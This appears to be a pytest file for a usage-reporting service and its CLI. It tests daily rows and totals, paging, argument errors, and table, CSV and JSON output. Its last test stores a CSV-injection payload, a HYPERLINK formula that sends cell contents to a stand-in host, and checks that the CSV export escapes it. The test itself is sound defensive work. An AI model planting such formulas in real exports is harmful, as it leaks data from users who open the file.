"""`usage.report` over the wire, and `usage-tasks report`."""

import csv
import io
import json
import subprocess
import sys
from typing import Any

import pytest
from structlog.testing import capture_logs
from typer.testing import CliRunner, Result

from tests.factories import DAY, HOUR, START, SYSTEM, call, record, session_report, stopped_report, team
from usage_tasks.cli import cli
from usage_tasks.coordination.clock import TestClock
from usage_tasks.domain.access import AccessError
from usage_tasks.domain.errors import InvalidInputError
from usage_tasks.runtime import Runtime
from usage_tasks.tasks.task import ArgumentsError
from usage_tasks.tasks.usage import report as tasks

RANGE = {"start": START.isoformat(), "end": (START + 3 * DAY).isoformat()}


@pytest.fixture
def installation(rt: Runtime) -> Runtime:
    """A session over two days that stopped, and a running session, by the hour."""
    TestClock(rt.redis).advance(START + 2 * DAY)
    with rt.transaction() as connection:
        record(connection, stopped_report(DAY, started_at=START + 12 * HOUR), session_report(attribution_id=team("b")))
    return rt


def ask(**arguments: Any) -> Any:
    return call(tasks.report_usage, **{"actor": SYSTEM} | RANGE | arguments)


def test_a_report_answers_rows_by_day_and_totals(installation: Runtime) -> None:
    answer = ask(attribution_id=team())
    assert answer["rows"] == [
        {"day": "2026-01-01", "credit_cents": 7200, "seconds": 43_200, "sessions": 1},
        {"day": "2026-01-02", "credit_cents": 7200, "seconds": 43_200, "sessions": 1},
    ]
    assert answer["totals"] == {"rows": 2, "credit_cents": 14_400, "seconds": 86_400, "sessions": 1}
    assert answer["at"] == "2026-01-03T00:00:00Z"


def test_pages_are_as_of_the_first_ones_instant(installation: Runtime) -> None:
    first = ask(group_by=["attribution_id", "day"], limit=3)
    assert len(first["rows"]) == 3
    TestClock(installation.redis).advance(START + 3 * DAY)
    second = ask(group_by=["attribution_id", "day"], limit=3, page_token=first["next_page_token"])
    assert (second["at"], second["totals"], second["next_page_token"]) == (first["at"], first["totals"], None)
    rows = [*first["rows"], *second["rows"]]
    assert sum(row["credit_cents"] for row in rows) == first["totals"]["credit_cents"] == 14_400 + 28_800
    with pytest.raises(InvalidInputError, match="the instant of the first page"):
        ask(group_by=["attribution_id", "day"], page_token=first["next_page_token"], at=START.isoformat())


def test_a_caller_whose_clock_is_ahead_asks_for_each_page_with_the_same_arguments(real_rt: Runtime) -> None:
    now = real_rt.now()
    with real_rt.transaction() as connection:
        record(connection, *(stopped_report(HOUR, attribution_id=team(name), started_at=now - DAY) for name in "ab"))
    asked = {
        "start": (now - 2 * DAY).isoformat(),
        "end": now.isoformat(),
        "group_by": ["attribution_id"],
        "limit": 1,
        "at": (now + HOUR / 30).isoformat(),
    }
    first = ask(**asked)
    second = ask(**asked, page_token=first["next_page_token"])
    assert (second["at"], second["next_page_token"]) == (first["at"], None)
    assert len({row["attribution_id"] for row in (*first["rows"], *second["rows"])}) == 2
    with pytest.raises(InvalidInputError, match="the instant of the first page"):
        ask(**asked | {"at": (now + HOUR).isoformat()}, page_token=first["next_page_token"])


def test_wrong_arguments_are_named(installation: Runtime) -> None:
    with pytest.raises(ArgumentsError, match="group_by"):
        ask(group_by=["month"])
    with pytest.raises(ArgumentsError, match="group_by"):
        ask(group_by=[])
    with pytest.raises(AccessError, match="the installation"):
        ask(actor=team().replace("team", "user"))


def run(*arguments: str) -> Result:
    span = ("--from", "2026-01-01", "--to", "2026-01-04")
    with capture_logs():  # the command itself sends them to standard error
        done = CliRunner().invoke(cli, ["report", *span, *arguments])
    assert done.exit_code == 0, done.output
    return done


def test_the_command_writes_a_table_csv_or_json(installation: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    grouped = ("--by", "day", "--by", "workspace_class")
    table = run(*grouped).output
    assert "2026-01-02" in table
    assert "432.00" in table  # the whole, in credits
    assert "72:00:00" in table
    rows = list(csv.DictReader(io.StringIO(run(*grouped, "--format", "csv").stdout)))
    assert rows == [
        {name: str(value) for name, value in row.items()}
        for row in map(json.loads, run(*grouped, "--format", "json").stdout.splitlines())
    ]
    assert rows[0] == {
        "day": "2026-01-01",
        "workspace_class": "small",
        "credit_cents": "21600",
        "seconds": "129600",
        "sessions": "2",
    }


def test_the_command_goes_through_every_page(installation: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
    by_account = ("--by", "day", "--by", "attribution_id", "--format", "json")
    whole = run(*by_account).stdout
    monkeypatch.setattr("usage_tasks.commands.ledger.report._PAGE", 1)
    assert run(*by_account).stdout == whole
    assert len(whole.splitlines()) == 4
    assert len(run(*by_account, "--account", team()).stdout.splitlines()) == 2
    assert json.loads(run("--at", "2026-01-01T12:00:00", "--format", "json").stdout)["credit_cents"] == 7200


def test_standard_output_holds_the_report_and_nothing_else(installation: Runtime, environment: dict[str, str]) -> None:
    command = [sys.executable, "-m", "usage_tasks.cli", "report", "--from", "2026-01-01", "--to", "2026-01-02"]
    asked = [*command, "--format", "csv"]
    done = subprocess.run(asked, env=environment, check=True, capture_output=True, text=True, timeout=60)
    assert done.stdout == "day,credit_cents,seconds,sessions\n2026-01-01,21600,129600,2\n"


def test_a_name_that_is_a_formula_is_safe_in_the_csv_and_itself_in_json(installation: Runtime) -> None:
    formula = '=HYPERLINK("http://x.invalid/"&A1,"open")'
    with installation.transaction() as connection:
        record(connection, stopped_report(HOUR, workspace_id=formula))
    by = ("--by", "workspace_id")
    names = [row["workspace_id"] for row in csv.DictReader(io.StringIO(run(*by, "--format", "csv").stdout))]
    assert f"'{formula}" in names
    assert formula not in names
    assert formula in [json.loads(line)["workspace_id"] for line in run(*by, "--format", "json").stdout.splitlines()]
